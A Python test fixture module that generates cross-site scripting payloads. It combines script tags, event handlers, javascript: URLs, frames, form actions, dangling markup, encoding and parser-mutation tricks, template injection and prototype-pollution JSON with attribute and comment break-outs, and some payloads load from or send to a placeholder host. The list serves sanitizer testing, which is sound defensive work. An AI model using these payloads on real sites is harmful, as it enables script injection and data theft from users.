"""Texts that would do something if any page took them for more than text.

A text is a *lure* (markup or script that would run, load, navigate or send) in a *wrapping* (what it would have to
break out of, or be turned by, in one place of a page). Each sets `window.ran` or goes to STRANGER, so that a test sees
it.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

STRANGER: Final = "https://stranger.invalid/x"
_RUN: Final = "window.ran=1"

LURES: Final[dict[str, str]] = {
    # What runs by being there
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={STRANGER}.js></script>",
    "module": f"<script type=module>{_RUN}</script>",
    "script in SVG": f"<svg><script>{_RUN}</script></svg>",
    "script in MathML": f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "script in a template": f"<template><script>{_RUN}</script></template>",
    "script in a shadow": f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    # What runs by failing, loading, showing or being looked at
    "image that fails": f"<img src=x onerror={_RUN}>",
    "image with a set": f"<img srcset=x onerror={_RUN}>",
    "picture": f"<picture><source srcset=x><img onerror={_RUN}></picture>",
    "video that fails": f"<video><source onerror={_RUN}></video>",
    "sound that fails": f"<audio src=x onerror={_RUN}></audio>",
    "drawing that loads": f"<svg onload={_RUN}>",
    "animation that begins": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "animation of a link": f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text>t</text></a></svg>",
    "focus by itself": f"<input autofocus onfocus={_RUN}>",
    "focus of anything": f"<p tabindex=0 autofocus onfocus={_RUN}>",
    "details that open": f"<details open ontoggle={_RUN}>",
    "animation of style": f"<p style=animation-name:fade onanimationstart={_RUN}>",
    "scroll": f"<p onscrollend={_RUN} style=overflow:auto;height:1px>",
    "pointer": f"<p onpointerenter={_RUN}>come here</p>",
    "popover": f"<button popovertarget=p>open</button><p popover id=p onbeforetoggle={_RUN}>",
    "dialog": f"<dialog open onclose={_RUN}><form method=dialog><button>close</button></form></dialog>",
    # Pages in the page
    "frame": "<iframe src=javascript:parent.ran=1></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>parent.ran=1</script>'></iframe>",
    "object": f"<object data={STRANGER}></object>",
    "embedded": f"<embed src={STRANGER}>",
    # What leads, or is sent, elsewhere
    "link that runs": f"<a href=javascript:{_RUN}>touch me</a>",
    "link that pings": f"<a href=# ping={STRANGER}>touch me</a>",
    "form": f"<form action={STRANGER}><button>send</button></form>",
    "button of its own form": f"<button form=write formaction={STRANGER}>send</button>",
    "base": f"<base href={STRANGER}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={STRANGER}'>",
    "stylesheet": f"<link rel=stylesheet href={STRANGER}.css>",
    "preload": f"<link rel=preload as=image href={STRANGER}.png>",
    "imported style": f"<style>@import '{STRANGER}.css';</style>",
    "background": f"<p style='background:url({STRANGER})'>",
    "image from elsewhere": f"<img src={STRANGER}.png>",
    "unfinished image": f"<img src='{STRANGER}?",
    # What takes the place of something of ours
    "name of a global": "<img name=getElementById><form id=writing><input name=value></form>",
    "policy by meta": "<meta http-equiv=content-security-policy content='script-src *'>",
    "handler by attribute name": f"<p onclick={_RUN} style=position:fixed;inset:0>",
}

WRAPPINGS: Final[dict[str, Callable[[str], str]]] = {
    "as it is": lambda lure: lure,
    "out of an attribute in double quotes": lambda lure: f'">{lure}',
    "out of an attribute in single quotes": lambda lure: f"'>{lure}",
    "out of a text area and a title": lambda lure: f"</textarea></title></style></noscript>{lure}",
    "out of a comment": lambda lure: f"--!>{lure}<!--",
    "entities": html.escape,
}
"""Around each of the lures."""

OTHERS: Final = (
    # In attributes, without an element of their own
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}',
    f"x onerror={_RUN} x=",
    f'"style="background:url({STRANGER})',
    # In scripts, templates and addresses
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f"'-{_RUN}-'",
    f"\\';{_RUN}//",
    f"</script><script>{_RUN}//",
    f"*/{_RUN}/*",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"javascript:{_RUN}//",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    "data:text/html,<script>opener.ran=1</script>",
    "blob:null/ran",
    STRANGER,
    f"//{STRANGER.partition('//')[2]}",
    f"![x]({STRANGER}.png)",
    f"[touch me](javascript:{_RUN})",
    # Turned into markup by a decoder that is not ours
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    quote(f"<script>{_RUN}</script>"),
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#x3c;svg onload={_RUN}&#x3e;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    # Changed by a parser that mends it
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT\t>{_RUN}</sCRIPT\t>",
    f"<img/src=x/onerror={_RUN}/>",
    f"<<script>{_RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<math><mi><table><mi><style><img title='</style><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    # JSON that would change what is kept
    '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}',
    "__proto__",
    # Right to left, and other things that only look different
    f"\u202e<script>{_RUN}</script>\u202c",
    f"line\u2028<script>{_RUN}</script>\u2029line",
)

PAYLOADS: Final = tuple(
    dict.fromkeys([*(wrap(lure) for wrap in WRAPPINGS.values() for lure in LURES.values()), *OTHERS])
)

_CLEANED: Final = {0x202E: None, 0x202C: None, 0x2028: "\n", 0x2029: "\n"}


def as_kept(text: str) -> str:
    """Returns a payload as the server keeps it: direction marks are left out, and lines end the same way."""
    return text.translate(_CLEANED)
